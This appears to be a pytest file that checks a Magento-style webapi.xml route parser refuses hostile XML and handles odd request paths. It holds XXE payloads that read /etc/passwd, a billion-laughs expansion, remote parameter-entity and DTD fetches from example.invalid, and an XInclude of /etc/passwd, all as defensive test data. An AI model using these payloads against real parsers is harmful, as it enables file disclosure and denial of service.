"""Hostile inputs: webapi.xml that tries to expand, reach out or overflow, and hostile request paths."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from integration_core.errors import RouteDefinitionError
from integration_core.webapi import Route, RouteMap

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<routes><route url="/V1/a/b" method="GET"><service class="&lol2;" method="m"/></route></routes>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE routes [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<routes>&xxe;</routes>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE routes [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<routes/>"""
EXTERNAL_DTD = '<!DOCTYPE routes SYSTEM "http://example.invalid/webapi.dtd"><routes/>'
INTERNAL_DTD = "<!DOCTYPE routes [<!ELEMENT routes ANY>]><routes/>"


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, INTERNAL_DTD]
)
def test_dtds_and_entities_are_refused_before_they_expand_or_reach_out(text: str) -> None:
    with pytest.raises(RouteDefinitionError, match=r"^webapi\.xml: refused hostile XML"):
        RouteMap.from_magento_xml(text)


def test_a_string_that_is_not_valid_unicode_is_refused_with_a_typed_error() -> None:
    with pytest.raises(RouteDefinitionError, match=r"^webapi\.xml: text that is not valid Unicode"):
        RouteMap.from_magento_xml("<routes>\ud800</routes>")


def test_xinclude_is_just_an_unexpected_element() -> None:
    text = '<routes xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></routes>'
    with pytest.raises(RouteDefinitionError, match="unexpected element"):
        RouteMap.from_magento_xml(text)


def test_ten_thousand_routes_build_and_match() -> None:
    routes = RouteMap(
        [Route("GET", f"/V1/r{number}/:id", "S", "m", ("x",)) for number in range(10_000)]
    )
    found = routes.match("GET", "/V1/r9999/7")
    assert found is not None
    assert found.arguments == {"id": "7"}


@pytest.mark.parametrize(
    "path",
    ["", "/", "//V1/a/7", "/V1", "/V1/a/7/8", "V1/a", "/v1/a/7", "\x00", "/" * 10_000],
)
def test_paths_that_are_no_route_match_nothing(path: str) -> None:
    routes = RouteMap([Route("GET", "/V1/a/:id", "S", "m", ("x",))])
    assert routes.match("GET", path) is None


def test_an_encoded_slash_stays_inside_its_segment_as_in_magento() -> None:
    routes = RouteMap([Route("GET", "/V1/a/:id", "S", "m", ("x",))])
    found = routes.match("GET", "/V1/a/%2F")
    assert found is not None
    assert found.arguments == {"id": "/"}


@pytest.mark.law
@given(st.text(max_size=40), st.sampled_from(["GET", "get", "", "PATCH", "\x00"]))
def test_any_text_as_a_path_or_a_method_matches_or_not_and_never_raises(
    path: str, method: str
) -> None:
    """Rule: any text as a request's path or method finds a route or none, and never raises."""
    routes = RouteMap(
        [
            Route("GET", "/V1/a/:id", "S", "m", ("x",)),
            Route("GET", "/V1/a/b", "S", "m", ("x",)),
        ]
    )
    found = routes.match(method, path)
    assert found is None or method == found.route.method == "GET"


@pytest.mark.law
@given(st.text(max_size=200))
def test_any_xml_ish_text_builds_a_map_or_gets_a_route_definition_error(text: str) -> None:
    """Rule: any XML-ish text builds a route map or gets a RouteDefinitionError, nothing else."""
    document = f'<routes><route url="/V1/a/b" method="GET">{text}</route></routes>'
    try:
        RouteMap.from_magento_xml(document)
    except RouteDefinitionError as error:
        source = error.source
    else:
        source = "webapi.xml"
    assert source.startswith("webapi.xml")


def test_an_encoding_the_parser_cannot_read_is_refused_naming_the_document() -> None:
    document = b'<?xml version="1.0" encoding="shift_jis"?><routes/>'
    with pytest.raises(
        RouteDefinitionError, match=r"^Catalog\.xml: unsupported encoding 'shift_jis'"
    ):
        RouteMap.from_magento_xml({"Catalog.xml": document})
